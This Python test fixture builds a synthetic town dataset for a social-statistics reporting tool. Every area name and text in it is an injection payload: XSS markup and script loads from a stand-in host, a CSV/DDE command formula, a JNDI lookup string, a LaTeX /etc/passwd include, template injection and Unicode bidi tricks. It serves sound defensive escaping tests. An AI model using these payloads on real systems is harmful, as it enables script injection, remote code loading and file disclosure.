"""Names that try to be something else, and a town in which everything that somebody may write is called so."""

from __future__ import annotations

import itertools
import json
from typing import TYPE_CHECKING

import yaml

from sozialanalyse.catalogue.reading import DEFINITIONS
from tests.released import LEVELS, RULES

if TYPE_CHECKING:
    from pathlib import Path

CALL = "got('in')"
"""What scripts in these names would call; a browser's test gives them such a function and sees whether anybody does."""

SITE = "https://got.example"

MARKUP = (
    f"<script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"<SCRIPT SRC={SITE}/a.js></SCRIPT>",
    f'<img src=x onerror="{CALL}">',
    f"<img src={SITE}/b.png>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><image href={SITE}/c.svg /></svg>",
    f"<iframe srcdoc='<script>{CALL}</script>'>",
    f"<iframe src={SITE}/d>",
    f"<body onload={CALL}>",
    f"<details open ontoggle={CALL}>",
    f'<a href="javascript:{CALL}">Nord</a>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    f"<style>@import '{SITE}/e.css'</style>",
    f"<link rel=stylesheet href={SITE}/f.css>",
    f'<meta http-equiv="refresh" content="0;url={SITE}/g">',
    f"<base href={SITE}/>",
    f"<form action={SITE}/h><input autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<object data={SITE}/i></object>",
    f"</title><script>{CALL}</script>",
    f"</style><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    "<!-- Nord",
    "--><b>Nord</b>",
    f"<![CDATA[<script>{CALL}</script>]]>",
    f"]]><script>{CALL}</script>",
    "<plaintext>",
    "</main></body></html>",
)
ATTRIBUTES = (
    f'" onmouseover="{CALL}',
    f"' autofocus onfocus='{CALL}",
    f"` onclick=`{CALL}",
    f'"><script>{CALL}</script>',
    f"'><img src={SITE}/j onerror={CALL}>",
    f"javascript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"url({SITE}/k)",
    "&lt;b&gt;Nord&lt;/b&gt;",
    "&#60;b&#62;Nord",
    "&quot;&apos;&amp;",
)
TEXTS = (
    f"![Nord]({SITE}/l.png)",
    f"[Nord](javascript:{CALL})",
    f"<{SITE}/m>",
    "# Nord",
    "**Nord** _Nord_ `Nord`",
    "| Nord | Süd |",
    "```Nord",
    "$\\frac{a}{b}$ \\href{x}{y}",
    "$x$ und $y$",
    "\\input{/etc/passwd}",
    "{{ config }} {% raw %}",
    "{0.__class__} {town} %(name)s",
    "${jndi:ldap://got.example/a}",
    "<%= Nord %>",
    "#{Nord}",
)
FORMULAS = (
    "=cmd|' /C calc'!A",
    '=HYPERLINK("https://got.example/n","Nord")',
    "+A+B",
    "-A-B",
    "@SUM(A:B)",
    "\uff1dA+B",
    "\u2212=A",
)
MARKS = (
    "\u202edroN\u202c",
    "Nord\u200f\u200eSüd",
    "\u2066Nord\u2069 (\u2067Süd\u2069)",
    "\u05e6\u05e4\u05d5\u05df (Nord)",
    "N\u0301\u0301\u0301\u0301o\u0308r\u0336d\u0336",
    "Nord\u00ad\u200bSüd\ufeff",
    "\U0001f3d8\ufe0f Nord",
    "\ufffe\uffffNord",
)
NAMES = MARKUP + ATTRIBUTES + TEXTS + FORMULAS + MARKS

PLAN = """\
schema: 1
title: {de: Probe, en: Sample}
languages: [de, en]
runs:
  - {id: comparison, notebook: comparison, parameters: {target_group: children, level: ortsteil}, title: {de: Vergleich, en: Comparison}}
  - {id: trend, notebook: trend, parameters: {target_group: children, area: "100"}, title: {de: Entwicklung, en: Development}}
  - {id: other, notebook: trend, parameters: {target_group: children, area: "101"}, title: {de: Entwicklung, en: Development}}
  - {id: profile, notebook: profile, parameters: {area: "1"}, title: {de: Profil, en: Profile}}
  - {id: broken, notebook: broken, parameters: {target_group: children}, title: {de: Kaputt, en: Broken}}
"""
DATES = ("2022-12-31", "2023-12-31", "2024-12-31")


def both(text: str) -> dict[str, str]:
    return {"de": text, "en": text}


def write_town(folder: Path) -> Path:
    """Write a town in which every name and note is one of :data:`NAMES`: an area for each, all others in turn."""
    folder.mkdir(parents=True, exist_ok=True)
    turn = itertools.cycle(NAMES)
    areas = {str(100 + number): name for number, name in enumerate(NAMES)}
    rows = [["0", next(turn), "stadt", ""], ["1", next(turn), "bezirk", "0"], ["2", next(turn), "bezirk", "0"]]
    rows += [[area, name, "ortsteil", "1" if int(area) % 2 else "2"] for area, name in areas.items()]
    table = [["area", "name", "level", "parent"], *rows]
    texts = {
        "areas.csv": "\n".join(",".join(f'"{cell.replace(chr(34), 2 * chr(34))}"' for cell in row) for row in table),
        "counts.csv": "area,period,measure,sex,age,value,status\n" + "".join(_counts([*areas])),
        "areas.geojson": json.dumps(_squares([*areas])),
        "disclosure.yml": RULES,
        "town.yml": yaml.safe_dump(_declared(turn), allow_unicode=True),
        "catalogue.yml": yaml.safe_dump({"schema": 1, "indicators": [_indicator(turn)]}, allow_unicode=True),
        "logo.svg": '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><path d="M1 1h7v7z" fill="#17506b"/></svg>',
    }
    for name, text in texts.items():
        (folder / name).write_text(text, encoding="utf-8")
    return folder


def _counts(areas: list[str]) -> list[str]:
    """Rows of the tidy file: few children on benefits in some areas, so that something is hidden."""
    rows = []
    for day, date in enumerate(DATES):
        for number, area in enumerate(areas):
            poor = 3 if number == len(areas) // 2 else 20 + (7 * number + 5 * day) % 60
            rows.append(f"{area},{date},sgb2_recipients,,0-14,{poor},\n")
            rows += [f"{area},{date},population,,{age},{people},\n" for age, people in (("0-14", 300), ("15-64", 900))]
    return rows


def _squares(areas: list[str]) -> dict[str, object]:
    """A map of squares in rows of ten."""
    corners = ((0, 0), (1000, 0), (1000, 1000), (0, 1000), (0, 0))
    features = [
        {
            "type": "Feature",
            "properties": {"area": area},
            "geometry": {
                "type": "Polygon",
                "coordinates": [[[1000 * (place % 10) + x, 1000 * (place // 10) + y] for x, y in corners]],
            },
        }
        for place, area in enumerate(areas)
    ]
    crs = {"type": "name", "properties": {"name": "EPSG:25832"}}
    return {"type": "FeatureCollection", "crs": crs, "features": features}


def _declared(turn: itertools.cycle[str]) -> dict[str, object]:
    levels = yaml.safe_load(LEVELS)["levels"]
    for level in levels:
        level |= {"label": both(next(turn)), "plural": both(next(turn))}
    source = {"name": both(next(turn)), "publisher": next(turn), "licence": next(turn), "note": both(next(turn))}
    statement = {"law": both(next(turn)), "status": "partial", "assessed": "2026-01-05", "method": "self"}
    return {
        "schema": 1,
        "name": f"Ort {next(turn)}",
        "levels": levels,
        "confidentiality": "synthetic",
        "population_base": both(next(turn)),
        "sources": {"register": source},
        "counts": [{"file": "counts.csv", "source": "register"}],
        "geometry": {"file": "areas.geojson"},
        "breaks": [{"source": "register", "date": "2023-06-01", "note": both(next(turn)), "review": "open"}],
        "site": {
            "publisher": both(next(turn)),
            "feedback": both(next(turn)),
            "url": "https://ort.example/bericht-7",
            "logo": "logo.svg",
            "colours": {"accent": "#7a1f3d", "band": "#b46000"},
            "accessibility": {**statement, "barriers": [both(next(turn))], "enforcement": both(next(turn))},
        },
        "consultation": {
            "consulted": [{"body": both(next(turn)), "date": "2026-01-06", "data_until": DATES[-1]} for _ in range(3)]
        },
    }


def _indicator(turn: itertools.cycle[str]) -> dict[str, object]:
    """The shipped indicator of the two measures, all of whose texts are others."""
    shipped = yaml.safe_load((DEFINITIONS / "indicators.yml").read_text(encoding="utf-8"))["indicators"]
    found = next(entry for entry in shipped if entry["id"] == "kinderarmut")
    changed = {name: both(next(turn)) for name in ("label", "source", "definition", "reading", "notes")}
    return {**found, **changed, "short": both(next(turn)[:20])}
